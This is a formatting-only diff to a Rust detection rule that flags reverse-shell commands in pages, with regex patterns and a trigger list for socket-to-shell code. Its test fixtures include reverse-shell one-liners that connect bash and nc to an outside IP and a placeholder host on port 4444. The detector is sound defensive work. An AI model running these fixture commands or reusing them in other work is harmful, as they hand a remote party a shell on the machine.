@@ -23,11 +23,14 @@ pub(super) static RULE: Rule = rule(
             page!("```sh\nbash -i >& /dev/tcp/45.61.136.10/4444 0>&1\n```\n"),
             page!("```sh\nnc forms.example 4444 -e /bin/sh\n```\n"),
         ],
-        good: &[page!("```sh\nnc -z forms.example 443 && echo open\ntimeout 1 bash -c '</dev/tcp/localhost/5432'\n```\n")],
+        good: &[page!(
+            "```sh\nnc -z forms.example 443 && echo open\ntimeout 1 bash -c '</dev/tcp/localhost/5432'\n```\n"
+        )],
     },
 );
 
-const HELP: &str = "to test a connection use `nc -z HOST PORT`; to work on another machine use `ssh`, which asks who one is";
+const HELP: &str =
+    "to test a connection use `nc -z HOST PORT`; to work on another machine use `ssh`, which asks who one is";
 
 pub(super) const PATTERNS: &[Pattern] = &[
     Pattern {
@@ -37,10 +40,15 @@ pub(super) const PATTERNS: &[Pattern] = &[
         judge: |hit, ledger| {
             let host = hit.group("host").or(hit.group("host2")).or(hit.group("host3")).unwrap_or_default();
             // Bash can speak HTTP this way; nobody does so in earnest, but it is no shell.
-            let speaks = hit.group("host2").is_some() && !hit.text().to_lowercase().contains("sh -i") && !hit.text().contains("while");
+            let speaks = hit.group("host2").is_some()
+                && !hit.text().to_lowercase().contains("sh -i")
+                && !hit.text().contains("while");
             if speaks && !hit.text().contains("bash") && !hit.text().contains("/sh") {
                 if hosts::sort(host) != Sort::Nobody {
-                    let message = format!("opens a connection to `{}` from the shell itself, past every proxy and log", shown(host));
+                    let message = format!(
+                        "opens a connection to `{}` from the shell itself, past every proxy and log",
+                        shown(host)
+                    );
                     ledger.tell(hit, Tell::new(&RULE, Level::Warning, message, HELP));
                 }
                 return;
@@ -68,7 +76,17 @@ pub(super) const PATTERNS: &[Pattern] = &[
         judge: hands_over,
     },
     Pattern {
-        triggers: &["socket", "net.connect", "createconnection", "fsockopen", "tcpclient", "/bin/sh", "/bin/bash", "pty.spawn", "dup2"],
+        triggers: &[
+            "socket",
+            "net.connect",
+            "createconnection",
+            "fsockopen",
+            "tcpclient",
+            "/bin/sh",
+            "/bin/bash",
+            "pty.spawn",
+            "dup2",
+        ],
         scope: Scope::Around(8),
         form: r#"(?:socket\.(?:socket|create_connection)\s*\(.{0,500}?(?:os\.dup2|pty\.spawn|subprocess\.(?:call|popen|run|check_output)\(\s*\[?\s*["'](?:/bin/(?:ba|z)?sh|(?:ba)?sh|cmd|powershell))|use\s+(?:io::)?socket.{0,500}?exec\s*[({]?\s*["'{]?\s*["']?/bin/(?:ba)?sh|fsockopen\s*\(.{0,300}?(?:exec|shell_exec|proc_open|system|popen|passthru)\s*\(|tcpsocket\.(?:new|open)\s*\(?.{0,300}?(?:/bin/(?:ba)?sh|io\.popen|\bexec\b|spawn)|net\.(?:connect|createconnection|socket)\s*\(.{0,400}?(?:spawn|exec)\w*\s*\(\s*["'](?:/bin/)?(?:sh|bash|zsh|cmd|powershell)|(?:spawn|exec)\w*\s*\(\s*["'](?:/bin/)?(?:sh|bash|zsh|cmd(?:\.exe)?|powershell(?:\.exe)?)["'].{0,400}?net\.(?:connect|createconnection|socket)|net\.sockets\.tcpclient.{0,900}?(?:\biex\b|invoke-expression|cmd\.exe|getstream\(\).{0,600}?(?:iex|invoke)))"#,
         judge: hands_over,
